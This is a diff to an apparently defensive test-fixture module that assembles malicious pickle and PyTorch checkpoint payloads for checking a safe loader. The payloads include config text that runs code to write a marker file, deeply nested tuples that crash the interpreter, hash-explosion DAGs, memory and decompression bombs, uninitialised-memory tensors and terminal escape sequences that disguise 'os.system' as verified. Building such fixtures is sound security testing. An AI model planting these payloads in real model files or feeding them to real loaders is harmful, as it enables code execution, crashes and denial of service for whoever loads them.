@@ -351,3 +351,139 @@ def oversized_tensor_zip() -> bytes:
         z.writestr('archive/data/0', b'\0' * 8)
         z.writestr('archive/version', '3\n')
     return buf.getvalue()
+
+
+# --- the second round: crashes, hangs, amplification, stale memory, leftovers ---------------
+def _deep_tuple(a: Asm, depth: int) -> Asm:
+    a.empty_tuple()
+    a.out += b'\x85' * depth  # TUPLE1, depth times: ((((),),),) ...
+    return a
+
+
+def _dag_tuple(a: Asm, depth: int = 64) -> Asm:
+    """A tuple DAG: t[i] = (t[i-1], t[i-1]); tiny in the file, 2**depth leaves when walked."""
+    a.empty_tuple().put(0).op(b'0')  # POP: only the memo keeps it
+    for i in range(1, depth + 1):
+        a.get(i - 1).get(i - 1).tuple2().put(i)
+        if i < depth:
+            a.op(b'0')
+    return a
+
+
+def _deflated_zip(payload: bytes) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
+        z.writestr('archive/data.pkl', payload)
+        z.writestr('archive/byteorder', 'little')
+    return buf.getvalue()
+
+
+def _tensor(a: Asm, numel: int = 2, key: str = '0', size=(2, ), hooks=None,
+            legacy: bool = False) -> Asm:
+    a.glob('torch._utils', '_rebuild_tensor_v2').mark()
+    a.mark().str('storage').glob('torch', 'FloatStorage').str(key).str('cpu').int(numel)
+    (a.none() if legacy else a).tuple().op(b'Q')  # BINPERSID (legacy: + view metadata)
+    a.int(0).push_tuple(size).push_tuple((1, )).false().glob('collections', 'OrderedDict')
+    a.empty_tuple().reduce()
+    if hooks:
+        a.mark().int(0)
+        hooks(a)
+        a.setitems()
+    return a.tuple().reduce()
+
+
+BOTH = ('legacy', 'zip')
+#: the formats each of :func:`bound_attacks` comes in (listed here so tests can be collected
+#: without building the payloads)
+BOUND_FORMATS = {
+    'config_text_runs_code': BOTH, 'deep_tuple_dict_key': BOTH, 'deep_tuple_set_member': BOTH,
+    'deep_tuple_storage_key': BOTH, 'dag_tuple_dict_key': BOTH, 'dag_tuple_in_message': BOTH,
+    'dag_tuple_value': BOTH, 'bytearray_size': BOTH, 'deflate_bomb': ('zip', ),
+    'opcode_flood': ('zip', ), 'codec_call': BOTH, 'torch_tensor_size': BOTH,
+    'storage_without_data': BOTH, 'sparse_out_of_bounds': BOTH, 'standin_in_tuple_key': BOTH,
+    'standin_in_set_of_tuples': BOTH, 'counter_attributes': BOTH,
+    'tensor_backward_hooks': ('zip', ), 'tensor_grad_state': ('zip', ), 'terminal_escape': BOTH,
+}
+
+
+def bound_attacks(marker: str, secret: str) -> Dict[str, Dict[str, bytes]]:
+    """Files (per format) for the failure classes beyond code execution by the unpickler."""
+    both = lambda pkl: {fmt: wrap(pkl) for fmt, wrap in FORMATS.items()}  # noqa: E731
+    evil_cfg = f"import os\nopen({marker!r}, 'w').write('pwned')\n"
+    out = {
+        # 1. config text that MMEngine would run (Runner.resume / BaseInferencer)
+        'config_text_runs_code': both(
+            Asm().empty_dict().mark().str('meta').empty_dict().str('config').str(evil_cfg)
+            .setitem().str('message_hub').empty_dict().str('runtime_info').empty_dict()
+            .str('cfg').str(evil_cfg).setitem().setitem().setitems().stop()),
+        # 2. interpreter crash: a million nested tuples hashed as a key / set member / storage key
+        'deep_tuple_dict_key': both(
+            _deep_tuple(Asm().empty_dict(), 1_000_000).none().setitem().stop()),
+        'deep_tuple_set_member': both(
+            _deep_tuple(Asm().glob('builtins', 'set').empty_list(), 1_000_000).append()
+            .tuple1().reduce().stop()),
+        'deep_tuple_storage_key': both(
+            _deep_tuple(Asm().mark().str('storage').glob('torch', 'FloatStorage'), 1_000_000)
+            .str('cpu').int(0).tuple().op(b'Q').stop()),
+        # 3. hangs: memoised tuple DAGs hashed, described in a message, or walked
+        'dag_tuple_dict_key': both(_dag_tuple(Asm().empty_dict()).none().setitem().stop()),
+        'dag_tuple_in_message': both(
+            _dag_tuple(Asm().glob('numpy', 'dtype')).tuple1().reduce().stop()),
+        'dag_tuple_value': both(_dag_tuple(Asm().empty_dict().str('v')).setitem().stop()),
+        # 4. memory and CPU amplification
+        'bytearray_size': both(Asm().glob('builtins', 'bytearray').int(2_500_000_000).tuple1()
+                               .reduce().stop()),
+        'deflate_bomb': {'zip': _deflated_zip(Asm().str('x' * (96 * 2**20)).stop())},
+        'opcode_flood': {'zip': _deflated_zip(bytes(Asm().none().out)
+                                              + b'0N' * (30 * 2**20) + b'.')},
+        'codec_call': both(Asm().glob('_codecs', 'encode').str('\u00e9' * 60000).str('idna')
+                           .tuple2().reduce().stop()),
+        # 5. uninitialised memory: torch.Tensor(n), storages declared but never filled
+        'torch_tensor_size': both(Asm().glob('torch', 'Tensor').int(1 << 24).tuple1()
+                                  .reduce().stop()),
+        'storage_without_data': {
+            fmt: FORMATS[fmt](_tensor(Asm(), numel=1 << 20, size=(1 << 20, ),
+                                      legacy=fmt == 'legacy').stop()) for fmt in FORMATS},
+        # 7. a refused sparse tensor (its validation would linger in torch's process-wide queue)
+        'sparse_out_of_bounds': both(
+            Asm().glob('torch._utils', '_rebuild_sparse_tensor')
+            .glob('torch', 'sparse_coo').empty_tuple().tuple2().reduce().stop()),
+        # 9. stand-ins left live inside keys, sets, attributes, hooks and grads
+        'standin_in_tuple_key': both(
+            Asm().empty_dict().np_dtype('f8').tuple1().none().setitem().stop()),
+        'standin_in_set_of_tuples': both(
+            Asm().glob('builtins', 'set').empty_list().np_dtype('f8').tuple1().append()
+            .tuple1().reduce().stop()),
+        'counter_attributes': both(
+            Asm().glob('collections', 'Counter').empty_tuple().reduce().empty_dict()
+            .str('x').np_dtype('f8').setitem().build().stop()),
+        'tensor_backward_hooks': {'zip': as_zip_with_storage(
+            _tensor(Asm(), hooks=lambda a: a.np_dtype('f8')).stop())},
+        'tensor_grad_state': {'zip': as_zip_with_storage(_grad_state_payload())},
+        # 10. terminal escape sequences in what a refusal message repeats from the file
+        'terminal_escape': both(Asm().glob('os\x1b[2K\r', 'system\x1b[32m OK verified')
+                                .stop()),
+    }
+    return out
+
+
+def _grad_state_payload() -> bytes:
+    """``_rebuild_from_type_v2(_rebuild_tensor_v2, Tensor, args, {'grad': <numpy dtype>})``."""
+    a = Asm().glob('torch._tensor', '_rebuild_from_type_v2').mark()
+    a.glob('torch._utils', '_rebuild_tensor_v2').glob('torch', 'Tensor').mark()
+    a.mark().str('storage').glob('torch', 'FloatStorage').str('0').str('cpu').int(2) \
+        .tuple().op(b'Q')
+    a.int(0).push_tuple((2, )).push_tuple((1, )).false().glob('collections', 'OrderedDict') \
+        .empty_tuple().reduce().tuple()
+    a.empty_dict().str('grad').np_dtype('f8').setitem()
+    return a.tuple().reduce().stop()
+
+
+def as_zip_with_storage(payload: bytes, data: bytes = b'\0' * 8) -> bytes:
+    """A zip checkpoint whose one storage ``0`` holds ``data``."""
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_STORED) as z:
+        z.writestr('archive/data.pkl', payload)
+        z.writestr('archive/byteorder', 'little')
+        z.writestr('archive/data/0', data)
+    return buf.getvalue()
